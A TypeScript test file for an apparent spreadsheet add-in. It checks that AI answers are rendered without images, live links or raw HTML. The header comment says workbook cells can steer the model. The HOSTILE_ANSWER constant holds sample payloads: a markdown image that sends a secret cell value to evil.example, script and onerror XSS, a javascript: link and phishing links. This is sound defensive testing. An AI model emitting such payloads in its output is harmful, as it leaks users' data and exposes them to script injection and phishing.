// Model output is untrusted (cells can steer the model): the components that render answers
// must not turn it into live content. No <img> (an image URL leaks data the moment it loads), no
// clickable link (javascript: or a phishing page), no raw HTML.
import { readFileSync, readdirSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { createElement, type ComponentType } from "react";
import { renderToStaticMarkup } from "react-dom/server";

const HOSTILE_ANSWER = [
  "Here is your summary.",
  "![chart](https://evil.example/pixel.png?d=SECRET_CELL_VALUE)",
  '<img src="https://evil.example/x.png" onerror="alert(1)">',
  "<script>alert(document.cookie)</script>",
  "[Click to fix your workbook](javascript:alert(1))",
  "[invoice](https://evil.example/phish)",
  "Visit https://evil.example/autolink for more.",
  '<a href="https://evil.example">raw html link</a>',
  "<iframe src=\"https://evil.example\"></iframe>",
  "| a | b |\n|---|---|\n| ![x](https://evil.example/t.png) | [y](https://evil.example) |",
].join("\n\n");

/** Source files under components/ and app/. */
function sources(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) return sources(full);
    return /\.(?:tsx?|jsx?)$/.test(entry.name) ? [full] : [];
  });
}

const RENDERER = "components/addin/answer-markdown.tsx";

describe("rendering model answers", () => {
  it("goes through one renderer: nothing else parses markdown or injects HTML", () => {
    const offenders = ["components", "app"]
      .flatMap((dir) => sources(path.join(process.cwd(), dir)))
      .map((file) => path.relative(process.cwd(), file))
      .filter((file) => file !== RENDERER)
      .filter((file) => /from ["'](?:react-markdown|marked|markdown-it|remark-html|rehype-raw)["']|dangerouslySetInnerHTML/.test(readFileSync(file, "utf8")));
    expect(offenders).toEqual([]);
  });

  it(`${RENDERER} renders no images, no live links and no raw HTML from model output`, async () => {
    const module = (await import(/* @vite-ignore */ path.join(process.cwd(), RENDERER))) as Record<string, ComponentType<{ text: string }>>;
    const html = renderToStaticMarkup(createElement(module.AnswerMarkdown, { text: HOSTILE_ANSWER }));
    expect(html).toContain("Here is your summary.");
    expect(html).toContain("<table"); // markdown still renders: tables, text
    expect(html).not.toMatch(/<img\b/i);
    expect(html).not.toMatch(/<a\b/i);
    expect(html).not.toMatch(/<script\b/i);
    expect(html).not.toMatch(/<iframe\b/i);
    expect(html).not.toMatch(/\bon\w+=/i);
    expect(html).not.toMatch(/\bsrc=/i);
    expect(html).not.toMatch(/href=/i);
    // The link target stays visible as text, so the user can judge it.
    expect(html).toContain("https://evil.example/phish");
  });
});
